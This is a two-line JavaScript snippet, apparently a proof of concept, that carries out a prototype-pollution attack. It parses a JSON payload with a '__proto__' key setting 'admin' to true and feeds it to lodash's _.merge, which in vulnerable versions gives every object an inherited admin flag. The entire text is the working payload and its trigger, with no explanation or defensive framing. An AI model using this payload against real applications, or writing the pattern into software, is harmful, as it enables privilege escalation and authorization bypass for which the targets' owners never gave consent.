const payload = JSON.parse('{"__proto__":{"admin":true}}');
_.merge({}, payload);
